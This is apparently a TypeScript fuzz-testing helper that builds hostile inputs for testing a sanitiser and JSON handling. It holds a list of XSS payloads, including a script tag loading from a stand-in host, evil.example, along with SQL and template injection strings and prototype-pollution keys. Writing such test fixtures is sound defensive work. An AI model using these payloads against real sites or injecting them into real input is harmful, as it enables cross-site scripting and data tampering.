import fc from 'fast-check';

/**
 * The fixed seed every fuzz property runs with, so CI replays the same inputs. Set FUZZ_SEED
 * to explore other inputs locally; a failure prints the seed and path that reproduce it.
 */
export const FUZZ_SEED = Number(process.env['FUZZ_SEED'] ?? 20261125);

/** Run counts scale with FUZZ_RUNS (a multiplier, default 1) for a longer local soak. */
export function runs(count: number): number {
  return Math.max(1, Math.round(count * Number(process.env['FUZZ_RUNS'] ?? 1)));
}

/** Markup that has broken real sanitisers: script, event handlers, script URLs, parser tricks. */
export const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle /></svg>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="java&#x09;script:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<p onclick="alert(1)" onmouseover=alert(1)>para</p>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<!--<script>alert(1)</script>-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="https://ok.example" onfocus="alert(1)" autofocus>ok</a>',
  '<div style="behavior:url(x.htc)">styled</div>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '</textarea><script>alert(1)</script>',
  '<x-fuzz-marker>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, meant literally.
  '${7*7}{{7*7}}<%= 7*7 %>',
  "'; DROP TABLE jobs; --",
  '\u0000\u0001\u001f\u007f\u0085',
  '\u202e\u2066evil\u2069',
  '\ud800\udfff\ud800',
  '👩🏽‍💻 زبان 中文 ﷽ e\u0301',
];

/** Keys that poison naive object merging. */
export const POLLUTION_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'];

/** Any string a hostile source could send: payloads, random unicode, lone surrogates, huge runs. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...XSS_PAYLOADS) },
  { weight: 3, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  {
    weight: 2,
    arbitrary: fc
      .array(fc.oneof(fc.constantFrom(...XSS_PAYLOADS), fc.string({ maxLength: 12 })), { maxLength: 6 })
      .map((parts) => parts.join(' ')),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...XSS_PAYLOADS, 'x', '\u00e9', '😀'), fc.integer({ min: 100, max: 1500 }))
      .map(([text, times]) => text.repeat(times)),
  },
);

/** Any JSON value, including nested junk and objects whose keys are pollution keys. */
export const junkJson: fc.Arbitrary<unknown> = fc.oneof(
  fc.jsonValue({ maxDepth: 3 }),
  fc.constantFrom(null, true, false, 0, -1, 1e308, [], {}),
  fc
    .tuple(fc.constantFrom(...POLLUTION_KEYS), fc.jsonValue({ maxDepth: 1 }))
    .map(([key, value]) => rawObject([[key, value]])),
);

/** Marks an object that serialises from an entry list, so duplicate and `__proto__` keys survive. */
const RAW = Symbol('raw JSON object');

/** An object given as entries; serialiseJson writes every entry verbatim, in order. */
export function rawObject(entries: Array<[string, unknown]>): object {
  return { [RAW]: entries };
}

/** JSON text for a value that may hold rawObject()s; undefined entries are left out. */
export function serialiseJson(value: unknown): string {
  if (Array.isArray(value)) return `[${value.map((v) => serialiseJson(v ?? null)).join(',')}]`;
  if (value && typeof value === 'object' && RAW in value) {
    const entries = (value as { [RAW]: Array<[string, unknown]> })[RAW];
    return `{${entries
      .filter(([, v]) => v !== undefined)
      .map(([k, v]) => `${JSON.stringify(k)}:${serialiseJson(v)}`)
      .join(',')}}`;
  }
  return JSON.stringify(value) ?? 'null';
}

/**
 * A field value: usually `good`, sometimes a hostile string, junk of another type, or absent
 * (undefined, which serialiseJson leaves out).
 */
export function field<T>(good: fc.Arbitrary<T>, goodWeight = 24): fc.Arbitrary<T | unknown> {
  return fc.oneof(
    { weight: goodWeight, arbitrary: good },
    { weight: 1, arbitrary: hostileString },
    { weight: 1, arbitrary: junkJson },
    { weight: 1, arbitrary: fc.constant(undefined) },
  );
}
